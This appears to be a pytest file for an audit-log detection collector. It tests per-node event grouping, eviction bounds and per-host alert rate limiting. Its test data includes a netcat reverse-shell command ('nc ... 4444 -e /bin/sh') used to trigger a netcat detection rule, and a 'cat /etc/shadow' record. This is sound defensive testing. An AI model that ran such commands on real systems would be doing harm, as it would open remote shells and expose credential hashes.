"""Records of many nodes through one stream (a collector's plugin): grouping,
order, timeouts and bounds per node (source/nodes.py), for both sources.

Streams are the shared generator's logs of several nodes, interleaved record
by record (bench/fleet.py), or hand-made records where a case needs one
node to misbehave. Every result is compared with what each node's own log
gives alone, so nothing here depends on the generator's content."""

from __future__ import annotations

import json
import sys
import time
from collections import Counter
from pathlib import Path

import pytest

from audisp_eql import limits
from audisp_eql.rules import load_rules
from audisp_eql.source import make_event_source
from conftest import ROOT
from harness import pipelines
from harness.records import exec_event

sys.path.insert(0, str(ROOT))
from bench.fleet import fleet_log, interleave, node_log, node_names  # noqa: E402

PARSERS = ("auparse", "python")


def prefixed(node: str, lines: list[bytes]) -> list[bytes]:
    return [f"node={node} ".encode() + line for line in lines]


def feed_in_chunks(pipeline, data: bytes, size: int = 4096) -> None:  # type: ignore[no-untyped-def]
    for start in range(0, len(data), size):
        pipeline.feed(data[start:start + size])
    pipeline.flush()


def docs_of(data: bytes, parser: str, **options: object) -> list[dict]:
    docs: list[dict] = []
    pipeline = pipelines.build_pipeline(
        pipelines.PipelineOptions(parser=parser, local_host=False, **options),
        on_document=docs.append)
    feed_in_chunks(pipeline, data)
    return docs


def canonical(docs: list[dict]) -> Counter:
    return Counter(json.dumps(d, sort_keys=True) for d in docs)


@pytest.mark.parametrize("parser", PARSERS)
def test_clock_skew_between_nodes_splits_no_event(shared: Path, parser: str) -> None:
    """Ten nodes whose clocks are 0, 7, 14 ... 63 s apart, records interleaved:
    each node's documents are exactly those of its own log alone (before, a
    node ahead completed every other node's events in progress, splitting them)."""
    names = node_names(10)
    offsets = {name: i * 7 for i, name in enumerate(names)}
    logs = [node_log(shared, name, 150, 20 + i, offsets[name]) for i, name in enumerate(names)]
    mixed = docs_of(interleave(logs, seed=5), parser)
    alone = [d for log in logs for d in docs_of(b"".join(log), parser)]
    assert len(alone) == 150 * len(names)
    assert canonical(mixed) == canonical(alone)


@pytest.mark.parametrize("parser", PARSERS)
def test_one_nodes_unfinished_event_holds_back_no_other_node(parser: str) -> None:
    """Node a's event never completes; node b's complete events come out at
    once, not after a's timeout (one order per node, not one for all)."""
    source = make_event_source(parser)
    first = exec_event(1, ["sleep", "1"], "/usr/bin/sleep", eoe=False)[:2]
    assert source.feed(b"".join(prefixed("a", first))) == []
    out = []
    for serial in range(2, 6):
        out += source.feed(b"".join(prefixed("b", exec_event(serial, ["id"], "/usr/bin/id"))))
    # auparse keeps the last event until the next line or a moment of quiet
    # (EOE_IDLE); half a second later, far less than a's 2 s timeout:
    out += source.age(time.monotonic() + 0.5)
    assert [(e.node, e.serial) for e in out] == [("b", s) for s in range(2, 6)]
    rest = source.flush()
    assert [(e.node, e.serial, len(e.raw)) for e in rest] == [("a", 1, 2)]


@pytest.mark.parametrize("parser", PARSERS)
def test_a_flooding_node_cannot_split_a_quiet_nodes_event(parser: str) -> None:
    """Past the pending bound, the node holding the most gives up its oldest:
    the flood (events that never complete) is completed early and counted,
    while the quiet node's event in progress stays whole."""
    bound = 20
    with limits.lowered(MAX_HELD_RECORDS_TOTAL=bound * 2):
        source = make_event_source(parser, max_pending=bound)
    quiet = exec_event(1, ["vi", "/etc/hosts"], "/usr/bin/vi", pid=50)
    out = source.feed(b"".join(prefixed("quiet", quiet[:2])))
    for serial in range(100, 100 + bound * 20):     # SYSCALL only: never complete
        out += source.feed(b"".join(prefixed("flood", exec_event(
            serial, ["x"], "/tmp/x", pid=serial)[:1])))
    out += source.feed(b"".join(prefixed("quiet", quiet[2:])))
    out += source.age(time.monotonic() + 0.5)   # auparse's look-ahead (see above)
    assert source.stats.evicted_pending > 0
    quiet_events = [e for e in out if e.node == "quiet"]
    assert [(e.serial, [t for t, _ in e.raw]) for e in quiet_events] == \
        [(1, ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"])]
    flood = [e for e in out + source.flush() if e.node == "flood"]
    assert sorted(e.serial for e in flood) == list(range(100, 100 + bound * 20))  # none lost


@pytest.mark.parametrize("parser", PARSERS)
def test_number_of_nodes_is_bounded_and_counted(parser: str) -> None:
    with limits.lowered(MAX_NODE_SOURCES=8):
        source = make_event_source(parser)
        out = []
        for i in range(50):   # each node leaves one event unfinished
            out += source.feed(b"".join(prefixed(f"n{i}", exec_event(
                i + 1, ["x"], "/bin/x", eoe=False)[:2])))
        assert source.nodes() == 8                     # type: ignore[attr-defined]
    assert source.stats.evicted_nodes == 42
    everything = out + source.flush()
    assert sorted(e.serial for e in everything) == list(range(1, 51))
    assert all(len(e.raw) == 2 for e in everything)


def test_process_table_keeps_a_quiet_nodes_processes_through_a_flood() -> None:
    """A node starting thousands of processes cannot push out a quiet node's
    processes while that node holds no more than its share: the quiet
    node's child still names its parent (before: plain LRU lost it)."""
    bound = 64
    quiet = prefixed("quiet", exec_event(1, ["bash", "-l"], "/usr/bin/bash", pid=500, ppid=1))
    flood = b"".join(b"".join(prefixed("flood", exec_event(10 + i, ["true"], "/usr/bin/true",
                                                           pid=10_000 + i, ppid=9_999)))
                     for i in range(bound * 10))
    child = prefixed("quiet", exec_event(5000, ["cat", "/etc/shadow"], "/usr/bin/cat",
                                         pid=501, ppid=500, sec=1700000050))
    docs, _alerts, pipeline = pipelines.run(b"".join(quiet) + flood + b"".join(child), "python",
                                            process_table_size=bound, local_host=False)
    table = pipeline.builders.builders[0].context.table  # type: ignore[union-attr]
    [last] = [d for d in docs if d["process"]["pid"] == 501]
    assert last["process"]["parent"]["executable"] == "/usr/bin/bash"
    assert last["host"]["name"] == "quiet"
    assert len(table) == bound and table.evicted == bound * 10 + 2 - bound
    assert table.held("quiet") == 2


def test_process_table_of_one_host_is_still_least_recently_used_first() -> None:
    from audisp_eql.ecs.proctable import ProcessInfo, ProcessTable
    table = ProcessTable(3)
    for pid in (1, 2, 3):
        table.put(None, pid, ProcessInfo("/bin/x", "x", ("x",)))
    assert table.get(None, 1) is not None        # 1 is now the most recently used
    table.put(None, 4, ProcessInfo("/bin/x", "x", ("x",)))
    assert [pid for pid in (1, 2, 3, 4) if table.get(None, pid, from_proc=False)] == [1, 3, 4]
    assert table.evicted == 1


def test_fleet_replay_is_deterministic_and_keeps_each_nodes_order(shared: Path) -> None:
    names = node_names(4)
    one = fleet_log(shared, names, 20, seed=2)
    assert one == fleet_log(shared, names, 20, seed=2)
    for name in names:
        own = [line for line in one.splitlines(keepends=True)
               if line.startswith(f"node={name} ".encode())]
        assert own == node_log(shared, name, 20, 2 + names.index(name))


def _nc(node: str, serial: int) -> bytes:
    return b"".join(prefixed(node, exec_event(serial, ["nc", "203.0.113.7", "4444", "-e",
                                                       "/bin/sh"], "/usr/bin/nc",
                                              pid=4000 + serial)))


def test_a_noisy_host_cannot_use_up_a_rules_burst_for_the_others() -> None:
    """The rate limit is per rule and host: 50 netcat alerts from one host are
    cut to the burst, the other host's one alert of the same rule goes out."""
    from audisp_eql.outputs import AlertSink, RateLimiter
    from audisp_eql.outputs.base import Output

    class Collect(Output):
        def __init__(self) -> None:
            super().__init__()
            self.got: list[dict] = []

        def emit(self, alert):  # type: ignore[no-untyped-def]
            self.got.append(alert)

    out = Collect()
    sink = AlertSink([out], RateLimiter(burst=3, interval=60.0))
    rules = load_rules([ROOT / "rules" / "execution_netcat_program_exec.toml"]).rules
    data = b"".join(_nc("noisy", i) for i in range(1, 51)) + _nc("quiet", 99)
    _docs, alerts, _p = pipelines.run(data, "python", rules=rules, local_host=False)
    assert len(alerts) == 51
    for alert in alerts:
        sink.emit(alert, now=100.0)
    assert Counter(a["host"]["name"] for a in out.got) == {"noisy": 3, "quiet": 1}
    sink.close()
    [summary] = [a for a in out.got if "audisp_eql" in a]
    assert summary["host"]["name"] == "noisy" and summary["audisp_eql"]["suppressed"] == 47


def test_rate_limit_windows_are_bounded_and_closed_early_with_their_count() -> None:
    from audisp_eql.outputs import RateLimiter
    with limits.lowered(MAX_RATE_WINDOWS=4):
        limiter = RateLimiter(burst=1, interval=60.0)
    alert = {"rule": {"id": "r"}, "host": {"name": "noisy"}}
    out = [a for _ in range(3) for a in limiter.admit(alert, now=1.0)]   # 1 out, 2 held back
    for i in range(10):                     # many hosts: noisy's window is the oldest ...
        out += limiter.admit({"rule": {"id": f"r{i % 3}"}, "host": {"name": f"h{i}"}}, now=2.0)
    assert limiter.open_windows() == 4 and limiter.evicted_windows == 7
    [summary] = [a for a in out if "audisp_eql" in a]  # ... closed early, its count kept
    assert summary["host"]["name"] == "noisy" and summary["audisp_eql"]["suppressed"] == 2


def test_pending_matches_of_a_quiet_host_survive_a_flood_through_the_pipeline(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A real stateful matcher (pairs of one pid's documents within 10 s, as in
    test_engine_state) behind the real pipeline: one host opens thousands of
    pairs, another one; past the per-rule bound the flooding host's oldest
    go, and the quiet host's pair still completes."""
    from audisp_eql.engine import engine as engine_module
    from test_engine_state import PairMatcher
    [rule] = load_rules([ROOT / "rules" / "execution_netcat_program_exec.toml"]).rules
    monkeypatch.setitem(engine_module.STATEFUL_MATCHERS, "pair-test", PairMatcher)
    monkeypatch.setattr(type(rule.compiled.query), "kind", "pair-test", raising=False)
    data = _nc("quiet", 1) + b"".join(_nc("flood", i) for i in range(10, 400)) + \
        b"".join(prefixed("quiet", exec_event(500, ["nc", "x"], "/usr/bin/nc", pid=4001)))
    with limits.lowered(MAX_PENDING_PER_RULE=32, MAX_PENDING_TOTAL=48):
        _docs, alerts, pipeline = pipelines.run(data, "python", rules=[rule], local_host=False)
    assert [(a["host"]["name"], a["process"]["pid"]) for a in alerts] == [("quiet", 4001)]
    stats = pipeline.engine.stats()  # type: ignore[union-attr]
    assert stats["evicted_partial_matches"] > 0 and stats["pending_partial_matches"] == 32
